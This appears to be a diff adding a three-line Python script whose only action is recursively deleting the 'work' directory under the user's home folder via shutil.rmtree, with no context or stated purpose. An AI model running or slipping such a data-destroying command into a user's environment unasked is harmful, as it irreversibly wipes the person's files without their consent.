@@ -1,0 +1,3 @@
+from pathlib import Path
+import shutil
+shutil.rmtree(Path.home() / "work")
